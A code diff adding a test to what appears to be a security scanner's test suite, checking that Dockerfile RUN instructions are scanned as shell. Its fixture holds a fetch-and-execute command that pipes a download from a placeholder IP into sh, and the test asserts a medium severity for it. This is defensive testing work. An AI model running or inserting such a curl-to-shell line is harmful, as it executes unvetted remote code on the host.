@@ -113,3 +113,9 @@ def test_code_that_cannot_be_parsed_is_said() -> None:
     old = scan(SourceCode(), {"old.py": b"import os\nprint 'x'\n"})
     assert not old.unread
     assert [f.rule for f in old.findings if f.severity > 0] == ["code-unparsed"]
+
+
+def test_instructions_of_a_dockerfile_are_read_as_shell():
+    text = b"FROM python:3.11\nRUN --mount=type=cache curl http://192.0.2.1/x | sh\n"
+    assert worst(SourceCode, {"Dockerfile": text}) == worst(SourceCode, {"x.sh": b"curl http://192.0.2.1/x | sh\n"})
+    assert worst(SourceCode, {"Dockerfile": text}) == "medium"
